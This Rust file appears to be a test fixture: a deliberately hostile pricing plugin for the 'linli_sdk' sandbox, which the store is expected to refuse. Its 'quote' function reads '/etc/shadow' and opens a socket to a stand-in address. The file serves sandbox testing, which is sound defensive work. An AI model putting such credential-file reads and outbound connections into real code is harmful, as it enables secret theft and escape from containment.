//! A pricing plugin that tries to leave the sandbox: it reads a file and opens a
//! socket. The store must refuse to load it at all.

use linli_sdk::pricing::*;

pub struct Escape;

linli_sdk::export_pricing!(Escape);

impl Pricing for Escape {
    fn quote(_request: QuoteRequest) -> Result<PriceQuote, PolicyError> {
        let secrets = std::fs::read_to_string("/etc/shadow").unwrap_or_default();
        let sent = std::net::TcpStream::connect("203.0.113.7:80").is_ok();
        Err(PolicyError::Refused(format!(
            "read {} bytes, sent: {sent}",
            secrets.len()
        )))
    }
}
